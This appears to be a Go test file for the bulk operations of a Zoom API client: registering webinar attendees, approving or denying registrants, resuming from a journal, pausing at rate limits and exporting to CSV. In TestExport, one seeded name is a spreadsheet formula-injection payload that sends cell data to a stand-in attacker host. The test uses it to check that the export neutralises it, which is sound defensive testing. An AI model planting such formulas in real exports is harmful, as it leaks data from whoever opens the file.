package bulk_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/zoomgen/zoom"
	"github.com/zoomgen/zoom/bulk"
	"github.com/zoomgen/zoom/zoomtest"
)

// TestRegisterWebinar: a webinar list goes through the webinar endpoints
// (registered once each, reconciled against the webinar's own list, the
// journal refusing the meeting with the same number), and a webinar Zoom
// refuses stops the job with Zoom's code.
func TestRegisterWebinar(t *testing.T) {
	t.Parallel()
	srv := zoomtest.NewServer(t, zoomtest.Options{ValidateResponses: true})
	c := bulkClient(t, srv, zoom.WithPlan(zoom.PlanUnlimited))
	in := bulkPeople("web", 95)
	jnl := filepath.Join(t.TempDir(), "run.jsonl")
	rep, err := bulk.RegisterWebinar(t.Context(), c, zoomtest.WebinarScheduled, in[:40], bulk.Options{Journal: jnl})
	if err != nil || rep.Registered != 40 || rep.Target != bulk.Webinar(zoomtest.WebinarScheduled) {
		t.Fatalf("first 40: %v; %s", err, rep)
	}
	// The same number as a meeting: the journal is the webinar's.
	if _, err := bulk.Resume(t.Context(), c, zoomtest.WebinarScheduled, in[:40], bulk.Options{Journal: jnl}); !errors.Is(err, bulk.ErrJournalMismatch) {
		t.Errorf("a webinar's journal resumed for a meeting: %v, want ErrJournalMismatch", err)
	}
	rep, err = bulk.RegisterWebinar(t.Context(), c, zoomtest.WebinarScheduled, in, bulk.Options{})
	if err != nil || rep.AlreadyRegistered != 40 || rep.Registered != 55 || rep.Requests != 2 {
		t.Fatalf("all 95 again: %v; %s; want 40 already registered, 55 registered in 2 requests", err, rep)
	}
	bulkCheckServer(t, srv, zoomtest.WebinarScheduled, in, rep)
	if n := len(srv.Registrants(zoomtest.MeetingScheduled)); n != 0 {
		t.Errorf("the meeting got %d registrants from a webinar run", n)
	}
	for _, tc := range []struct {
		id   int64
		code int
	}{{zoomtest.WebinarRecurring, zoom.CodeInvalidRequest}, {zoomtest.WebinarNoRegistration, zoom.CodeRegistrationHasNotBeenEnabledForThisWebinar}, {zoomtest.WebinarMissing, zoom.CodeMeetingDoesNotExist}} {
		rep, err := bulk.RegisterWebinar(t.Context(), c, tc.id, in[:70], bulk.Options{})
		var ze *zoom.Error
		if !errors.As(err, &ze) || ze.Code != tc.code || rep.Stopped == nil || rep.NotSent != 70 || rep.Requests > 3 {
			t.Errorf("webinar %d: %v; %s; want stopped with code %d, 70 not sent, at most one request per worker", tc.id, err, rep, tc.code)
		}
	}
}

// TestSetStatus: approvals of a mixed list against the mock over HTTP:
// pending ones changed once, approved ones left alone and not sent, an
// unknown email reported, a duplicate sent once; a second run with the
// journal sends nothing.
func TestSetStatus(t *testing.T) {
	t.Parallel()
	for _, webinar := range []bool{false, true} {
		srv := zoomtest.NewServer(t, zoomtest.Options{ValidateResponses: true})
		target := bulk.Meeting(83000000001)
		if webinar {
			target = bulk.Webinar(83000000002)
		}
		srv.AddMeeting(zoomtest.Meeting{ID: target.ID, Webinar: webinar, Type: map[bool]int{false: 2, true: 5}[webinar], ManualApproval: true})
		var seed []zoomtest.Registrant
		for i := range 70 {
			status := "pending"
			if i%10 == 0 {
				status = "approved"
			}
			seed = append(seed, zoomtest.Registrant{Email: fmt.Sprintf("p%02d@example.com", i), FirstName: "P", Status: status})
		}
		srv.AddRegistrants(target.ID, seed)
		emails := []string{"nobody@example.com"}
		for _, r := range seed {
			emails = append(emails, r.Email)
		}
		emails = append(emails, "P01@EXAMPLE.COM")
		c := bulkClient(t, srv, zoom.WithPlan(zoom.PlanUnlimited))
		jnl := filepath.Join(t.TempDir(), "status.jsonl")
		rep, err := bulk.SetStatus(t.Context(), c, target, bulk.Approve, emails, bulk.Options{Journal: jnl})
		if err != nil || rep.Changed != 63 || rep.Unchanged != 7 || rep.NotRegistrant != 1 || len(rep.Duplicates) != 1 || rep.Requests != 3 {
			t.Fatalf("%s: %v; %s; want 63 changed in 3 requests, 7 unchanged, 1 not a registrant, 1 duplicate", target, err, rep)
		}
		for _, r := range srv.Registrants(target.ID) {
			want := 1
			if r.Email[2] == '0' { // p00, p10, …
				want = 0 // approved before the run
			}
			if r.Status != "approved" || srv.StatusChanges(target.ID, r.Email) != want || srv.StatusReceived(target.ID, r.Email) != want {
				t.Errorf("%s %s: %s, %d changes, %d updates received; want approved, %d and %d", target, r.Email, r.Status,
					srv.StatusChanges(target.ID, r.Email), srv.StatusReceived(target.ID, r.Email), want, want)
			}
		}
		if rep.Results[0].Status != bulk.NotRegistrant || rep.Results[len(emails)-1].Status != bulk.Duplicate || rep.Results[2].RegistrantID == "" {
			t.Errorf("results: %v … %v", rep.Results[:3], rep.Results[len(emails)-1])
		}
		rep, err = bulk.SetStatus(t.Context(), c, target, bulk.Approve, emails, bulk.Options{Journal: jnl})
		if err != nil || !rep.Resumed || rep.Changed != 63 || rep.Requests != 0 {
			t.Errorf("%s again with the journal: %v; %s; want the 63 changes from the journal and no request", target, err, rep)
		}
		if _, err := bulk.SetStatus(t.Context(), c, target, bulk.Deny, emails, bulk.Options{Journal: jnl}); !errors.Is(err, bulk.ErrJournalMismatch) {
			t.Errorf("an approval journal used for denials: %v, want ErrJournalMismatch", err)
		}
	}
}

// TestSetStatusStops: an unknown webinar stops the job with Zoom's 404
// before anything is sent; an unknown action is refused.
func TestSetStatusStops(t *testing.T) {
	t.Parallel()
	srv := zoomtest.NewServer(t, zoomtest.Options{})
	c := bulkClient(t, srv)
	rep, err := bulk.SetStatus(t.Context(), c, bulk.Webinar(zoomtest.WebinarMissing), bulk.Cancel, []string{"a@example.com"}, bulk.Options{})
	if !zoom.IsMeetingNotFound(err) || rep.Requests != 0 || rep.NotSent != 1 {
		t.Errorf("unknown webinar: %v; %s", err, rep)
	}
	if _, err := bulk.SetStatus(t.Context(), c, bulk.Meeting(zoomtest.MeetingScheduled), "approved", nil, bulk.Options{}); err == nil {
		t.Error(`action "approved" accepted`)
	}
}

// TestExport: every status, every registrant once, a name typed as a
// formula neutralised (or kept with Raw), over several pages.
func TestExport(t *testing.T) {
	t.Parallel()
	srv := zoomtest.NewServer(t, zoomtest.Options{ValidateResponses: true})
	c := bulkClient(t, srv, zoom.WithPlan(zoom.PlanUnlimited))
	var seed []zoomtest.Registrant
	statuses := []string{"approved", "pending", "denied"}
	for i := range 700 {
		seed = append(seed, zoomtest.Registrant{Email: fmt.Sprintf("x%03d@example.com", i), FirstName: "F", LastName: "L", Status: statuses[i%3]})
	}
	seed[5].FirstName = `=HYPERLINK("http://evil.example/?x="&A1)`
	srv.AddRegistrants(zoomtest.WebinarScheduled, seed)
	for _, raw := range []bool{false, true} {
		var buf bytes.Buffer
		n, err := bulk.Export(t.Context(), c, bulk.Webinar(zoomtest.WebinarScheduled), &buf, bulk.ExportOptions{Raw: raw})
		if err != nil || n != 700 {
			t.Fatalf("raw=%v: %d exported: %v", raw, n, err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil || len(recs) != 701 || strings.Join(recs[0], ",") != strings.Join(bulk.ExportColumns, ",") {
			t.Fatalf("raw=%v: %d records, header %v: %v", raw, len(recs), recs[0], err)
		}
		byEmail := map[string][]string{}
		for _, r := range recs[1:] {
			byEmail[r[0]] = r
		}
		for i, s := range seed {
			r := byEmail[s.Email]
			if r == nil || r[3] != s.Status || r[4] == "" || !strings.Contains(r[6], "tk=") {
				t.Fatalf("raw=%v: %s: %v, want status %s, a registrant id and a join URL", raw, s.Email, r, s.Status)
			}
			want := s.FirstName
			if i == 5 && !raw {
				want = "'" + s.FirstName
			}
			if r[1] != want {
				t.Errorf("raw=%v: first name %q, want %q", raw, r[1], want)
			}
		}
	}
	if _, err := bulk.Export(t.Context(), c, bulk.Meeting(zoomtest.WebinarScheduled), &bytes.Buffer{}, bulk.ExportOptions{}); !zoom.IsMeetingNotFound(err) {
		t.Errorf("a webinar's ID exported as a meeting: %v, want Zoom's 3001", err)
	}
}

// TestSetStatusAccountDailyLimit: status updates and listings share the
// Medium label's daily budget; when it runs out the job pauses, says
// until when, and leaves the rest not sent with that time.
func TestSetStatusAccountDailyLimit(t *testing.T) {
	t.Parallel()
	srv := zoomtest.NewServer(t, zoomtest.Options{Limits: map[zoomtest.Label]zoomtest.Limit{zoomtest.LabelMedium: {Daily: 5}}})
	c := bulkClient(t, srv, zoom.WithPlan(zoom.PlanUnlimited))
	emails := seedPending(srv, zoomtest.MeetingScheduled, "pause", 120)
	rep, err := bulk.SetStatus(t.Context(), c, bulk.Meeting(zoomtest.MeetingScheduled), bulk.Deny, emails, bulk.Options{Concurrency: 1})
	reset := time.Now().UTC().Truncate(24 * time.Hour).Add(24 * time.Hour)
	// Three listings (one page per status) and two updates fit in 5.
	if !errors.Is(err, bulk.ErrPaused) || rep.Changed != 60 || rep.NotSent != 60 || !rep.PausedUntil.Equal(reset) {
		t.Fatalf("err %v; %s; want paused until %v with 60 changed and 60 not sent", err, rep, reset)
	}
	if r := rep.Results[119]; r.Status != bulk.NotSent || !r.RetryAt.Equal(reset) || r.Error == "" {
		t.Errorf("last: %+v", r)
	}
	for i, e := range emails {
		if want := map[bool]int{true: 1, false: 0}[i < 60]; srv.StatusChanges(zoomtest.MeetingScheduled, e) != want {
			t.Fatalf("%s: %d changes, want %d", e, srv.StatusChanges(zoomtest.MeetingScheduled, e), want)
		}
	}
}

// TestSetStatusResume: a run cancelled mid-way (with some answers lost
// after commit) and resumed from its journal ends with every registrant
// changed once, and the resumed run sends only what the first did not
// confirm.
func TestSetStatusResume(t *testing.T) {
	t.Parallel()
	srv := zoomtest.NewServer(t, zoomtest.Options{Seed: 3, Faults: zoomtest.Faults{DropAfterCommitRate: 0.2}})
	c := bulkClient(t, srv, zoom.WithPlan(zoom.PlanUnlimited))
	emails := seedPending(srv, zoomtest.WebinarScheduled, "resume", 600)
	target := bulk.Webinar(zoomtest.WebinarScheduled)
	jnl := filepath.Join(t.TempDir(), "approve.jsonl")
	ctx, cancel := context.WithCancel(t.Context())
	rep, err := bulk.SetStatus(ctx, c, target, bulk.Approve, emails, bulk.Options{Concurrency: 2, Journal: jnl, Progress: func(p bulk.Progress) {
		if p.Done >= 200 {
			cancel()
		}
	}})
	if !errors.Is(err, context.Canceled) || rep.Changed < 200 || rep.Changed == 600 {
		t.Fatalf("first run: %v; %s", err, rep)
	}
	first := rep.Changed
	srv.SetFaults(zoomtest.Faults{})
	rep, err = bulk.SetStatus(t.Context(), c, target, bulk.Approve, emails, bulk.Options{Concurrency: 2, Journal: jnl})
	if err != nil || !rep.Resumed || rep.Changed != 600 {
		t.Fatalf("resumed: %v; %s", err, rep)
	}
	if max := (600 - first + 29) / 30; rep.Requests > max {
		t.Errorf("resume sent %d updates, want at most %d", rep.Requests, max)
	}
	for _, e := range emails {
		if n := srv.StatusChanges(target.ID, e); n != 1 {
			t.Fatalf("%s changed %d times", e, n)
		}
	}
}

// seedPending gives the meeting or webinar n pending registrants,
// prefix000@example.com on, and returns their emails.
func seedPending(srv *zoomtest.Server, id int64, prefix string, n int) []string {
	emails := make([]string, n)
	seed := make([]zoomtest.Registrant, n)
	for i := range seed {
		emails[i] = fmt.Sprintf("%s%03d@example.com", prefix, i)
		seed[i] = zoomtest.Registrant{Email: emails[i], FirstName: "P", Status: "pending"}
	}
	srv.AddRegistrants(id, seed)
	return emails
}
